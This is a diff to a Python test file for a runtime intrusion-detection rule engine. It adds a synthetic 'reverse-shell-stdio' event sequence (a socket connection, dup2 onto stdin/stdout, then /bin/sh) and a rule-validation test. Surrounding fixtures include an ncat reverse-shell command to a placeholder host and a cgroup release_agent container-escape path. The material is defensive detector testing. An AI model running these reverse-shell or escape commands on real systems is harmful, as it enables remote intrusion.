@@ -5,6 +5,7 @@ from __future__ import annotations
 import os
 import tempfile
 import time
+from collections.abc import Sequence
 from pathlib import Path
 from typing import Any
 
@@ -36,8 +37,28 @@ def fd_install(path: str, **kw: Any) -> dict[str, Any]:
     return kprobe_event("fd_install", [{"int_arg": 3}, {"file_arg": {"path": path}}], **kw)
 
 
-#: rule id -> (an event it must fire on, a close event it must not fire on)
-CASES: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
+def _pid(event: dict[str, Any], pid: int, parent_pid: int | None = None) -> dict[str, Any]:
+    body = event[next(iter(event))]
+    body["process"]["pid"] = pid
+    if parent_pid is not None:
+        body["parent"]["pid"] = parent_pid
+    return event
+
+
+def _dup2(newfd: int, pid: int) -> dict[str, Any]:
+    args: list[dict[str, Any]] = [{"int_arg": 3}, {"int_arg": newfd}]
+    return _pid(kprobe_event("__x64_sys_dup2", args, binary="/usr/bin/python3"), pid)
+
+
+def _python_connects(pid: int) -> dict[str, Any]:
+    return _pid(kprobe_event("tcp_connect", [sock("203.0.113.9", 4444)]), pid)
+
+
+Case = dict[str, Any] | list[dict[str, Any]]
+
+#: rule id -> (an event it must fire on, a close event it must not fire on); a list is a
+#: sequence fed in order, whose last event is the one that fires (or not)
+CASES: dict[str, tuple[Case, Case]] = {
     "release-agent-escape": (
         fd_install("/sys/fs/cgroup/rdma/x/release_agent"),
         fd_install("/sys/fs/cgroup/rdma/x/notify_on_release"),
@@ -106,6 +127,19 @@ CASES: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
         kprobe_event("tcp_connect", [sock("203.0.113.9", 4444)], binary="/bin/bash"),
         kprobe_event("tcp_connect", [sock("203.0.113.9", 4444)], binary="/usr/bin/curl"),
     ),
+    "reverse-shell-stdio": (
+        [
+            _python_connects(4242),
+            _dup2(0, 4242),
+            _dup2(1, 4242),
+            _pid(exec_event("/bin/sh"), 4243, parent_pid=4242),  # pty.spawn's child
+        ],
+        [
+            _python_connects(4242),
+            _pid(_dup2(1, 4243), 4243, parent_pid=4242),  # subprocess: the child's pipes
+            _pid(exec_event("/bin/sh", "-c make"), 4243, parent_pid=4242),
+        ],
+    ),
     "reverse-shell-netcat": (
         exec_event("/usr/bin/ncat", "203.0.113.9 4444 -e /bin/sh"),
         exec_event("/usr/bin/ncat", "-l 8080"),
@@ -143,10 +177,14 @@ def _all_reported() -> RuleSet:
 ALL_REPORTED = _all_reported()
 
 
-def fired(event: dict[str, Any]) -> set[str]:
-    """Rule ids matched for ``event`` (attack paths excluded)."""
+def fired(case: Case) -> set[str]:
+    """Rule ids matched for the case's (last) event (attack paths excluded)."""
     engine = Engine(ALL_REPORTED, image_files=IMAGE_FILES)
-    return {a.rule_id for a in engine.feed(line(event)) if a.kind == "rule"}
+    events = case if isinstance(case, list) else [case]
+    alerts: Sequence[Any] = ()
+    for event in events:
+        alerts = engine.feed(line(event))
+    return {a.rule_id for a in alerts if a.kind == "rule"}
 
 
 def test_every_default_rule_has_cases() -> None:
@@ -166,8 +204,11 @@ def test_rule_stays_silent_on_its_negative_case(rule_id: str) -> None:
 
 def test_reported_rules_alert_with_session_context() -> None:
     engine = Engine(load_rules(), image_files=IMAGE_FILES)
-    for rule_id, (positive, _) in sorted(CASES.items()):
+    for rule_id, (case, _) in sorted(CASES.items()):
         rule = engine.rules.by_id[rule_id]
+        *before, positive = case if isinstance(case, list) else [case]
+        for event in before:
+            engine.feed(line(event))
         alerts = [a for a in engine.feed(line(positive)) if a.kind == "rule"]
         if rule.report:
             assert rule_id in {a.rule_id for a in alerts}
@@ -284,6 +325,20 @@ def test_conflicting_argument_types_are_refused(tmp_path: Path) -> None:
         "rules:\n" + rule.format("x", "sock") + rule.format("y", "int")
     )
     with pytest.raises(InvalidInput, match="argument 0 of tcp_connect is int"):
+        load_rules(tmp_path)
+
+
+def test_stdio_rule_refuses_a_dup_argument_of_another_type(tmp_path: Path) -> None:
+    """A stdio_socket rule reads dup2's newfd as an int: a rule typing it otherwise is refused
+    (the event's argument list would not be what either expects)."""
+    (tmp_path / "r.yaml").write_text(
+        "rules:\n"
+        "  - {id: x, confidence: 0.1, report: true, global: false,\n"
+        "     syscall: {call: [sys_dup2], args: [{index: 1, type: string}]}}\n"
+        "  - {id: s, confidence: 0.9, report: true, global: false,\n"
+        "     process: {binary: [sh], stdio_socket: true}}\n"
+    )
+    with pytest.raises(InvalidInput, match=r"r\.yaml:4: rule s: argument 1 of sys_dup2 is int"):
         load_rules(tmp_path)
 
 
